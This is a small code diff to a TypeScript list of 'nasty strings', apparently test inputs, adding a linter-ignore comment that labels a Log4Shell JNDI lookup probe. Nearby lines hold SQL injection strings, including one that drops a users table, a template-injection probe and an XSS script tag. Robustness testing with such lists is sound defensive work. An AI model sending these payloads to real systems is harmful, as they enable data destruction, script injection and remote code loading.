@@ -44,6 +44,7 @@ export const nastyStringList: string[] = [
   '\\',
   "' OR '1'='1",
   '"; DROP TABLE users; --',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, literally.
   '${jndi:ldap://x}',
   '{{7*7}}',
   '<script>alert(1)</script>',
